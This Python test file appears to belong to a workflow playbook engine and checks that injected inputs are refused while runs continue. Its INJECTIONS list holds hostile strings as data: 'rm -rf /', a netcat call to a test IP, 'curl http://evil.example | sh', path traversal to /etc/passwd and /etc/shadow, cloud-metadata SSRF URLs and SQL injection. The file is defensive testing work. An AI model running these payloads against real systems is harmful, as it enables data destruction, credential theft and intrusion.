"""Attacks through the data of a run: refused with a typed error, nothing happens outside, and the run goes on."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.playbooks.test_order_fulfilment import order
from tests.playbooks.world import PlaybooksWorld
from tests.workflows.playbook_world import playbook

pytestmark = pytest.mark.asyncio(loop_scope="module")

INJECTIONS = (
    "O-1; rm -rf /", "$(cat /etc/passwd)", "`id`", "O-1 | nc 203.0.113.9 4444", "O-1 && curl http://evil.example | sh",
    "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/shadow", "C:\\..\\..\\windows\\system32",
    "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:22/", "http://[::1]/", "http://2130706433/",
    "http://0x7f.1/", "file:///etc/passwd", "gopher://127.0.0.1:6379/_FLUSHALL",
    "' OR '1'='1' --", "1'; DROP TABLE reservations; --", "1 UNION SELECT password FROM users",
    "/proc/self/environ",
)  # fmt: skip
"""A31 to A37 of the product's list of attacks."""
REFUSED = {"authorization", "validation"}

THROUGH_A_TOOL = """
- each:
    for: {each: text, in: .texts}
    do:
      - attempt:
          try:
            - reserve:
                call: inventory.createReservation
                with: {body: {reference: "${ $text }", items: [{sku: TENT-2P, quantity: 1}]}}
          catch:
            as: err
            do:
              - note:
                  set: {text: "${ $text }", kind: '${ $err.type | split("/") | last }'}
                  export: {as: '$context + {seen: (($context.seen // []) + [.])}'}
- after:
    set: {seen: "${ $context.seen }", went_on: true}
"""
SECRETS = ("inventory-sandbox", "shipping-sandbox", "accounting-sandbox", "sk_test_sandbox", "xoxb-sandbox")
"""Keys of vendors in the tests' settings; each call below was made with one of them."""


def own(tasks: str) -> dict[str, Any]:
    return playbook(tasks, name="attacked")


async def test_injected_arguments_are_refused_and_the_run_goes_on(world: PlaybooksWorld) -> None:
    result = await world.run("attacked", {"texts": list(INJECTIONS)}, definition=own(THROUGH_A_TOOL))
    assert result.status == "completed", result.error
    assert result.output["went_on"] is True
    refused = {one["text"] for one in result.output["seen"] if one["kind"] in REFUSED}
    assert set(INJECTIONS) - refused == set()
    assert await world.standing() == []
    assert await world.kinds("inventory") == []


async def test_addresses_are_called_only_where_an_operator_lets_playbooks_do_that(world: PlaybooksWorld) -> None:
    tasks = '[{call: {call: http, with: {method: post, endpoint: "${ .at }", body: {a: 1}}}}]'
    result = await world.run("attacked", {"at": "http://169.254.169.254/"}, definition=own(tasks))
    assert result.error is not None
    assert result.error.type.rsplit("/", 1)[1] == "configuration"


@pytest.mark.parametrize(
    "expression",
    [
        "env.HOME", "$ENV.HOME", "now", "input", "inputs", 'import "a" as a; a::b', 'include "a"; .', "$__prog_args",
        'getpath(["a"]) | input_filename', "debug", "halt", "get_search_list", "modulemeta", "localtime",
    ],
)  # fmt: skip
async def test_expressions_that_reach_out_of_the_run_are_refused_before_it_starts(
    world: PlaybooksWorld, expression: str
) -> None:
    tasks = json.dumps([{"leak": {"set": {"x": f"${{ {expression} }}"}}}])
    result = await world.run("attacked", {}, definition=own(tasks))
    assert result.status == "faulted"
    assert result.error is not None
    assert result.error.type.rsplit("/", 1)[1] == "configuration"
    assert "/do/0/leak" in result.error.title


async def test_no_key_of_a_vendor_is_in_the_history_of_a_run(world: PlaybooksWorld) -> None:
    run = await world.start("order-fulfilment", order())
    assert (await world.result(run)).status == "completed"
    history = await run.fetch_history()
    raw = b"".join(event.SerializeToString() for event in history.events).decode("utf-8", "replace")
    assert "inventory.createReservation" in raw
    assert [secret for secret in SECRETS if secret in raw] == []
